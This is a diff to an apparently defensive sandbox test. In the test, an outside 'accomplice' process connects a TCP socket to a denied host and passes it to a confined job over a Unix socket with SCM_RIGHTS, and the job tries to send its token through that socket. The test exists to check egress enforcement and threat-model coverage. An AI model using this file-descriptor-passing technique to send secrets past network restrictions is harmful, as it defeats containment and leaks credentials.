@@ -8,11 +8,11 @@ from vlib import *  # noqa: F401,F403
 POLICY = {"allow": [A4 + ":443"]}
 AS = ("nobody",)
 SINKS_OK = []
-DENIED = [(D4, 443, "tcp")]
+# no DENIED: the accomplice outside connects to the denied host itself (unfenced, as
+# allowed); what must not get there is the job's token
 DOC = "docs/threat-model.md"
 # how the threat model would name this path (any of them)
-DOC_MARKS = ("SCM_RIGHTS", "passed over a unix socket", "over a Unix socket",
-             "passed over a Unix socket", "over a unix socket")
+DOC_MARKS = ("SCM_RIGHTS", "over a unix socket", "over a Unix socket", "accomplice")
 
 
 def judge(ev):
@@ -47,8 +47,7 @@ def outside(token, st):
         try:
             srv.settimeout(15)
             c, _ = srv.accept()
-            t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-            t.connect((D4, 443))
+            t = make_socket()
             c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                                 array.array("i", [t.fileno()]))])
             time.sleep(5)
@@ -58,6 +57,17 @@ def outside(token, st):
     st["pids"].append(pid)
     st["dir"] = d
     return {"args": [path]}
+
+
+def make_socket():
+    """What the accomplice passes: a TCP socket it connected to the denied host."""
+    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    t.connect((D4, 443))
+    return t
+
+
+def use(s, token):
+    attempt("send on the passed socket", s.send, payload(token, "scm_rights"))
 
 
 def outside_cleanup(st):
@@ -77,8 +87,7 @@ def job(token, args):
     except OSError as e:
         out(step="recvmsg", ok=False, err=err_name(e))
     if fds:
-        s = socket.socket(fileno=fds[0])
-        attempt("send on the passed socket", s.send, payload(token, "scm_rights"))
+        use(socket.socket(fileno=fds[0]), token)
         time.sleep(0.3)
 
 
